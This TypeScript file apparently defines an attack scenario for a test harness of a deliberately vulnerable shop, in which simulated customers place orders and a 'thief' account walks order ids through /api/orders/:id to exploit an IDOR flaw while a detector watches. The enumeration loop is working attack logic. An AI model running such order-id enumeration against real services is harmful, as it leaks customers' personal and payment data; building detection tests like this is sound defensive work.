/**
 * data-exfiltration: three simulated customers place orders; then a thief signs up with an
 * account of its own and reads other customers' orders one id after another through the JSON
 * API (`/api/orders/:id`), names, addresses and card digits included. In vulnerable mode the
 * shop answers every id (the `idor-order-page` flaw) and the data-exfiltration detector raises
 * `ecommerce.data-exfiltration.records`; in safe mode every foreign id is a 404 and nothing leaves.
 */
import { addToCart, checkOut, registerAccount, validCard } from '../shop-flows.js';
import { ATTACK_USER_AGENTS, BROWSER_USER_AGENTS } from '../user-agents.js';
import type { AttackScenario } from './types.js';

const VICTIMS = 3;
const ORDERS_PER_VICTIM = 9;
/** Order numbers start at 1000; the walk stops after this many ids, or five refusals in a row. */
const MAX_IDS = 60;
const FIRST_ORDER_ID = 1000;

export const dataExfiltration: AttackScenario = {
  name: 'data-exfiltration',
  description: `${VICTIMS} customers place ${VICTIMS * ORDERS_PER_VICTIM} orders; a thief then reads other customers' orders by id through /api/orders/:id.`,
  maxRequests: VICTIMS * (2 + ORDERS_PER_VICTIM * 4) + 2 + MAX_IDS,
  maxDurationMs: 120_000,
  ratePerSecond: 25,
  async run(ctx) {
    const stamp = Date.now().toString(36);
    for (let v = 0; v < VICTIMS; v++) {
      const victim = ctx.client(BROWSER_USER_AGENTS[v % BROWSER_USER_AGENTS.length]);
      await registerAccount(victim, {
        email: `customer-${stamp}-${v}@mail.example`,
        password: `Customer-pass-${v}1`,
        name: `Customer ${v + 1}`,
      });
      for (let i = 0; i < ORDERS_PER_VICTIM; i++) {
        await addToCart(victim, 'jump-rope', 1);
        const { orderId } = await checkOut(
          victim,
          validCard('4242424242424242'),
          `${v + 1} Market Street, 1000 Brussels`,
        );
        ctx.note(orderId === null ? 'victim_order_failed' : 'victim_order');
      }
    }
    const thief = ctx.client(ATTACK_USER_AGENTS.scraper);
    await registerAccount(thief, {
      email: `thief-${stamp}@mail.example`,
      password: 'Thief-pass-1',
      name: 'A Buyer',
    });
    let refusedInARow = 0;
    for (let id = FIRST_ORDER_ID; id < FIRST_ORDER_ID + MAX_IDS && refusedInARow < 5; id++) {
      const response = await thief.get(`/api/orders/${id}`);
      if (response.status === 200) {
        refusedInARow = 0;
        ctx.note('record_exfiltrated');
      } else {
        refusedInARow++;
        ctx.note('record_refused');
      }
    }
  },
};
